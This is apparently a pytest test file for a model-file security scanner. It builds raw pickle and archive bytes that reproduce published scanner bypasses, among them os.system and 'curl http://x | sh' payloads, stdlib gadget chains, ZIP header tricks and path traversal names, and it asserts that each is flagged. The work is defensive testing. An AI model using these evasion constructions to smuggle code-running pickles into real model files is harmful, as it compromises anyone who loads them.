"""One test per published bypass (THREATS.md sections 1-2), built from raw bytes, named after the advisory."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from modelseal.scanning.findings import FileResult, Severity, Status
from modelseal.scanning.scanner import scan_file
from tests.scanning.conftest import rules
from tests.scanning.pickles import binbytes, call, global_, proto, stack_global, stop, system, unicode

Scan = Callable[..., FileResult]


def critical(result: FileResult, target: str | None = None) -> bool:
    return any(f.severity is Severity.CRITICAL and (target is None or f.target == target) for f in result.findings)


def zip_with(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_payload_is_reconstructed_with_offset(scan_bytes: Scan) -> None:
    result = scan_bytes(system("curl http://x | sh"))
    finding = next(f for f in result.findings if f.rule == "PICKLE-DANGEROUS-CALL")
    assert finding.target == "os.system"
    assert finding.payload == "os.system('curl http://x | sh')"
    assert finding.offset is not None and finding.offset > 0


def test_ghsa_vvpj_8cmc_gx39_pkgutil_resolve_name(scan_bytes: Scan) -> None:
    body = call(stack_global("pkgutil", "resolve_name"), unicode("os:system"))
    result = scan_bytes(stop(body + b"(" + unicode("id") + b"tR"))
    assert critical(result, "pkgutil.resolve_name")


def test_cve_2025_1716_pip_main(scan_bytes: Scan) -> None:
    result = scan_bytes(stop(call(global_("pip", "main"), b"(" + unicode("install") + unicode("evil") + b"l")))
    assert critical(result, "pip.main")


@pytest.mark.parametrize("name", ["model.txt", "weights.msgpack", "pytorch_model.bin", "no-extension", ".metadata"])
def test_cve_2025_1889_any_extension_is_scanned_by_content(scan_bytes: Scan, name: str) -> None:
    assert critical(scan_bytes(system(), name))


def test_cve_2025_10155_pickle_named_like_a_torch_zip(scan_bytes: Scan) -> None:
    result = scan_bytes(system(), "model.pt")
    assert result.format == "pickle" and critical(result)


def test_cve_2025_10157_submodule_of_a_denied_module(scan_bytes: Scan) -> None:
    func = stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start")
    assert critical(scan_bytes(stop(call(func, unicode("x")))))


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("uuid", "_get_command_stdout"),
        ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
    ],
)
def test_ghsa_g38g_8gr9_h9xp_private_stdlib_gadgets(scan_bytes: Scan, module: str, name: str) -> None:
    assert critical(scan_bytes(stop(call(stack_global(module, name), unicode("id")))))


def test_ghsa_84r2_jw7c_4r5q_methodcaller_and_pydoc_locate(scan_bytes: Scan) -> None:
    locate = call(global_("pydoc", "locate"), unicode("os.system"))
    caller = call(global_("operator", "methodcaller"), unicode("__call__"), unicode("id"))
    result = scan_bytes(stop(call(caller, locate)))
    assert critical(result, "pydoc.locate") and critical(result, "operator.methodcaller")


def test_ghsa_955r_x9j8_7rhh_import_through_attrgetter(scan_bytes: Scan) -> None:
    importer = call(global_("builtins", "__import__"), unicode("os"))
    getter = call(global_("_operator", "attrgetter"), unicode("system"))
    result = scan_bytes(stop(call(call(getter, importer), unicode("id"))))
    assert critical(result, "builtins.__import__")
    assert "PICKLE-COMPUTED-CALL" in rules(result, Severity.HIGH)


def test_ghsa_565g_hwwr_4pp3_marshal_code_object(scan_bytes: Scan) -> None:
    code = call(global_("marshal", "loads"), binbytes(b"\xe3" + b"\x00" * 40))
    function = call(global_("types", "FunctionType"), code, b"}")
    result = scan_bytes(stop(call(function)))
    assert critical(result, "marshal.loads") and critical(result, "types.FunctionType")


def test_ghsa_h4rm_mm56_xf63_callable_hidden_in_the_memo(scan_bytes: Scan) -> None:
    # store os.system in the memo, drop it from the stack, fetch it later and call it
    body = global_("os", "system") + b"\x94" + b"0" + b"N0" + b"h\x00" + b"(" + unicode("id") + b"tR"
    result = scan_bytes(stop(body))
    finding = next(f for f in result.findings if f.rule == "PICKLE-DANGEROUS-CALL")
    assert finding.payload == "os.system('id')"


def test_ghsa_mxhj_88fx_4pcv_obj_then_pop(scan_bytes: Scan) -> None:
    body = b"(" + global_("os", "system") + unicode("id") + b"o0N"
    assert critical(scan_bytes(stop(body)), "os.system")


def test_ghsa_5j3x_jp52_966f_dotted_names_are_getattr_chains(scan_bytes: Scan) -> None:
    result = scan_bytes(stop(call(stack_global("shlex", "os.system"), unicode("id"))))
    assert critical(result)


def test_ghsa_6ggj_6f2q_f7mx_private_modules(scan_bytes: Scan) -> None:
    result = scan_bytes(stop(call(global_("_posixsubprocess", "fork_exec"), unicode("x"))))
    assert result.worst is not None and result.worst >= Severity.HIGH


def test_python2_aliases_apply_below_protocol_3(scan_bytes: Scan) -> None:
    # `commands.getoutput` is `subprocess.getoutput` to a Python 3 unpickler
    result = scan_bytes(b"ccommands\ngetoutput\n(S'id'\ntR.")
    assert critical(result, "subprocess.getoutput")


def test_computed_stack_global_operands_are_critical(scan_bytes: Scan) -> None:
    module = call(global_("builtins", "str"), unicode("os"))
    result = scan_bytes(stop(module + unicode("system") + b"\x93" + b"(" + unicode("id") + b"tR"))
    assert "PICKLE-COMPUTED-IMPORT" in rules(result, Severity.CRITICAL)


def test_cpython_154848_frame_boundary_straddle(scan_bytes: Scan) -> None:
    payload = call(global_("os", "system"), unicode("id")) + b"."
    frame = b"\x95" + struct.pack("<Q", 5)  # the frame ends inside the GLOBAL opcode's text
    result = scan_bytes(proto(4) + frame + payload)
    assert "PICKLE-FRAME-STRADDLE" in rules(result)
    assert critical(result, "os.system")


def test_every_concatenated_pickle_is_scanned(scan_bytes: Scan) -> None:
    benign = stop(b"N")
    result = scan_bytes(benign + benign + system())
    assert critical(result, "os.system")


def test_nullifai_broken_pickle_keeps_what_came_before(scan_bytes: Scan) -> None:
    broken = proto(4) + call(global_("os", "system"), unicode("id")) + b"\xff\xfe garbage"
    result = scan_bytes(broken)
    assert critical(result, "os.system")
    assert "PICKLE-MALFORMED" in rules(result)
    assert result.status is Status.INCOMPLETE


def test_nullifai_broken_pickle_in_7z(tmp_path: Path) -> None:
    import py7zr

    broken = proto(2) + call(global_("os", "system"), unicode("id")) + b"\x00garbage"
    archive = tmp_path / "model.7z"
    with py7zr.SevenZipFile(archive, "w") as seven:
        seven.writestr(broken, "model/data.pkl")
    result = scan_file(archive)
    assert result.format == "7z" and critical(result, "os.system")


@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_cve_2025_1944_local_and_central_names_differ(scan_bytes: Scan, compression: int) -> None:
    data = bytearray(zip_with({"archive/data.pkl": system()}, compression))
    local = data.index(b"archive/data.pkl")  # the first occurrence is the local header's copy
    data[local : local + 16] = b"archive/data.txt"
    result = scan_bytes(bytes(data), "model.pt")
    assert "ZIP-NAME-MISMATCH" in rules(result) and critical(result, "os.system")


@pytest.mark.parametrize("flag", [0x1, 0x20, 0x40])
def test_cve_2025_1945_flag_bits_do_not_hide_members(scan_bytes: Scan, flag: int) -> None:
    data = bytearray(zip_with({"archive/data.pkl": system()}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature) + offset
        data[at : at + 2] = struct.pack("<H", flag)
    result = scan_bytes(bytes(data), "model.pt")
    assert critical(result, "os.system")
    if flag & 1:
        assert "ZIP-ENCRYPTED-FLAG" in rules(result)


def test_cve_2025_10156_bad_crc_is_still_scanned(scan_bytes: Scan) -> None:
    data = bytearray(zip_with({"archive/data.pkl": system()}))
    at = data.index(b"PK\x01\x02") + 16
    data[at : at + 4] = b"\x00\x00\x00\x00"
    result = scan_bytes(bytes(data), "model.pt")
    assert "ZIP-BAD-CRC" in rules(result) and critical(result, "os.system")


def test_data_before_the_archive_and_polyglots(scan_bytes: Scan) -> None:
    result = scan_bytes(system() + zip_with({"x/data.pkl": system("second")}), "model.bin")
    assert "POLYGLOT" in rules(result)
    assert sum(1 for f in result.findings if f.rule == "PICKLE-DANGEROUS-CALL") == 2


def test_cve_2025_32434_torchscript_code_is_reported(scan_bytes: Scan) -> None:
    archive = zip_with({"model/data.pkl": stop(b"N"), "model/code/__torch__.py": b"def forward(self): ..."})
    assert "TORCHSCRIPT-CODE" in rules(scan_bytes(archive, "model.pt"))


def test_path_traversal_member_names(scan_bytes: Scan) -> None:
    result = scan_bytes(zip_with({"../../etc/cron.d/x": b"x", "ok.txt": b"y"}), "bundle.zip")
    assert "ZIP-PATH-TRAVERSAL" in rules(result, Severity.HIGH)


@pytest.mark.parametrize("encoding", ["raw", "base64", "hex", "zlib"])
def test_nested_payloads_in_literals(scan_bytes: Scan, encoding: str) -> None:
    import base64
    import binascii
    import zlib

    inner = system("nested")
    literal = {
        "raw": inner,
        "base64": base64.b64encode(inner),
        "hex": binascii.hexlify(inner),
        "zlib": zlib.compress(inner),
    }[encoding]
    outer = (
        stop(call(global_("pickle", "loads"), binbytes(literal)))
        if encoding == "raw"
        else stop(call(global_("builtins", "bytes"), binbytes(literal)))
    )
    result = scan_bytes(outer)
    assert any(f.target == "os.system" and f.member for f in result.findings), result.findings


def test_joblib_style_compressed_pickles_are_opened(scan_bytes: Scan) -> None:
    import bz2
    import gzip
    import lzma
    import zlib

    for compress in (
        gzip.compress,
        bz2.compress,
        lzma.compress,
        zlib.compress,
        lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
    ):
        assert critical(scan_bytes(compress(system()), "model.joblib"))


def test_npy_object_array_pickle(scan_bytes: Scan) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (118 - len(header)) + b"\n"
    result = scan_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + system(), "a.npy")
    assert critical(result, "os.system")


def test_extension_registry_codes_are_high(scan_bytes: Scan) -> None:
    assert "PICKLE-EXTENSION" in rules(scan_bytes(stop(b"\x82\x01" + b"(tR")), Severity.HIGH)


def test_sleepy_pickle_build_on_a_class_object_writes_its_attributes(scan_bytes: Scan) -> None:
    body = global_("some.module", "Config") + b"}" + unicode("x") + unicode("y") + b"sb"
    assert "PICKLE-GLOBAL-MUTATION" in rules(scan_bytes(stop(body)), Severity.CRITICAL)


def test_unknown_classes_are_medium_and_unknown_calls_high(scan_bytes: Scan) -> None:
    newobj = stop(global_("__main__", "Config") + b")\x81" + b"}b")
    assert scan_bytes(newobj).worst is Severity.MEDIUM
    reduce_call = stop(call(global_("mypackage.helpers", "build"), unicode("x")))
    assert scan_bytes(reduce_call).worst is Severity.HIGH


def test_legacy_torch_tar_checkpoint(tmp_path: Path) -> None:
    """PyTorch < 0.4 wrote tar files with sys_info, pickle, storages and tensors members."""
    import tarfile

    archive = tmp_path / "legacy.pt"
    with tarfile.open(archive, "w") as tar:
        for name, data in {"sys_info": stop(b"}"), "pickle": system(), "storages": stop(b"]"), "tensors": b""}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    result = scan_file(archive)
    assert result.format == "tar"
    assert any(f.member == "pickle" and f.target == "os.system" for f in result.findings)


def test_tensor_storages_that_merely_start_like_a_pickle_are_data(scan_bytes: Scan) -> None:
    storage = b"\x80\x02" + global_("os", "system") + b"\x00\xff" * 64  # never completes: raw floats
    archive = zip_with({"archive/data.pkl": stop(b"N"), "archive/data/0": storage})
    assert scan_bytes(archive, "model.pt").findings == ()


def test_a_complete_pickle_hidden_in_a_tensor_storage_is_found(scan_bytes: Scan) -> None:
    archive = zip_with({"archive/data.pkl": stop(b"N"), "archive/data/0": system()})
    assert critical(scan_bytes(archive, "model.pt"), "os.system")


def test_unknown_import_never_called_is_medium(scan_bytes: Scan) -> None:
    """Importing a module runs its top-level code, even if nothing from it is called."""
    result = scan_bytes(stop(b"(" + global_("somepackage.plugins", "Handler") + b"l"))
    assert [(f.rule, f.severity) for f in result.findings] == [("PICKLE-UNKNOWN-IMPORT", Severity.MEDIUM)]


# --- argument contracts and getattr on literal names (issue 11, first step) ---------------------------------


def test_a_contract_callable_fed_a_callable_is_a_breach(tmp_path: Path) -> None:
    """`build_intlist` is allowed for TorchScript's literal lists only."""
    body = call(global_("torch.jit._pickle", "build_intlist"), b"(" + global_("os", "system") + b"l")
    (tmp_path / "x.pkl").write_bytes(stop(body))
    findings = scan_file(tmp_path / "x.pkl").findings
    assert any(f.rule == "PICKLE-CONTRACT-BREACH" and f.severity is Severity.CRITICAL for f in findings)


def test_a_contract_callable_elsewhere_in_torch_jit_stays_denied(tmp_path: Path) -> None:
    (tmp_path / "x.pkl").write_bytes(stop(call(global_("torch.jit", "load"), unicode("model.pt"))))
    assert scan_file(tmp_path / "x.pkl").worst is Severity.CRITICAL


@pytest.mark.parametrize(
    ("owner", "name"),
    [(("os", "path"), "os"), (("builtins", "print"), "__globals__"), (("subprocess", "Popen"), "__init__")],
)
def test_getattr_of_a_literal_name_is_judged_as_the_name(tmp_path: Path, owner: tuple[str, str], name: str) -> None:
    resolved = call(global_("builtins", "getattr"), global_(*owner), unicode(name))
    (tmp_path / "x.pkl").write_bytes(stop(call(resolved, unicode("id"))))
    assert scan_file(tmp_path / "x.pkl").worst is Severity.CRITICAL


def test_getattr_of_an_unknown_attribute_of_an_allowed_class(tmp_path: Path) -> None:
    """`getattr(zoneinfo.ZoneInfo, '_unpickle')` is allowed by name; any other attribute of an allowed class is a
    name outside the allowlist, called."""
    resolved = call(global_("builtins", "getattr"), global_("collections", "OrderedDict"), unicode("os"))
    (tmp_path / "x.pkl").write_bytes(stop(call(resolved, unicode("id"))))
    worst = scan_file(tmp_path / "x.pkl").worst
    assert worst is not None and worst >= Severity.HIGH


def test_getattr_with_a_computed_name_stays_a_resolver(tmp_path: Path) -> None:
    name = call(global_("builtins", "str"), unicode("system"))
    resolved = call(global_("builtins", "getattr"), global_("os", "path"), name)
    (tmp_path / "x.pkl").write_bytes(stop(call(resolved, unicode("id"))))
    assert scan_file(tmp_path / "x.pkl").worst is Severity.CRITICAL
